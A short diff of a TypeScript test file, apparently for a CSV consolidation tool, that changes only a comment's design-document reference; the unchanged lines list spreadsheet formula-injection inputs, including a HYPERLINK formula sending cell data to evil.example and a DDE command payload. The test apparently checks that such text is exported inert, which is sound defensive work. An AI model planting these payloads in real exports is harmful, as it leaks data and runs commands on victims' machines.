@@ -6,7 +6,7 @@ import { parse } from 'csv-parse/sync'
 import { afterAll, beforeAll, expect, test } from 'vitest'
 import { consolidate } from './consolidated.ts'
 
-/** Texts that begin like formulas leave as text, however they came in and wherever they go (DESIGN §6, promise 7). */
+/** Texts that begin like formulas leave as text, however they came in and wherever they go (docs/design/promises.md: Promise 7). */
 const texts = [
   '=HYPERLINK("http://evil.example/?"&A1,"点我")',
   "=cmd|' /C calc'!A0",
